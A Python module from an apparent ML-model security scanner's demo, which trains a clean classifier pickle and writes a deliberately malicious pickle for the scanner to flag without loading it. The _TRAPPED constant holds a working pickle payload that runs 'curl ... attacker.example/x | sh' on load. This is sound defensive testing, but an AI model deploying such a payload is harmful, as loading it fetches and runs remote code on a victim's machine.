"""The scanner step of `mlwarden demo`: a model trained on the reverted data scans clean; a pickle that
would run a shell command on load is caught, without ever being loaded."""

from __future__ import annotations

import pickle
from pathlib import Path

from rich.text import Text

from mlwarden.cli.demo_data import DATASET, PROJECT
from mlwarden.cli.render import Output
from mlwarden.scan import Verdict
from mlwarden.service.workspace import Workspace

# What a booby-trapped "model" looks like inside: os.system("...") called by the unpickler (protocol 0).
_TRAPPED = b"cos\nsystem\n(S'curl -s https://attacker.example/x | sh'\ntR."


def scan_models(out: Output, steward: Workspace, folder: Path) -> int:
    import pandas as pd
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    data = steward.data.export(DATASET, folder / "clean.parquet", project=PROJECT)
    frame = pd.read_parquet(data["path"])
    model = make_pipeline(StandardScaler(), LogisticRegression()).fit(frame.drop(columns="target"), frame["target"])
    (folder / "model.pkl").write_bytes(pickle.dumps(model))
    (folder / "downloaded-model.pkl").write_bytes(_TRAPPED)
    report = steward.scans.scan([folder / "model.pkl", folder / "downloaded-model.pkl"])
    failures = 0
    for verdict in report.files:
        expected = Verdict.CLEAN if verdict.path.endswith("/model.pkl") else Verdict.MALICIOUS
        ok = verdict.verdict is expected
        failures += 0 if ok else 1
        reason = next((f.message for f in verdict.findings if f.severity.value != "info"), "")
        label = "caught it" if expected is Verdict.MALICIOUS and ok else verdict.verdict.value
        line = f"  {Path(verdict.path).name}: {label} ({verdict.format}) {reason[:100]}".rstrip()
        out.line(Text(line, style="green" if ok else "bold red"))
    return failures
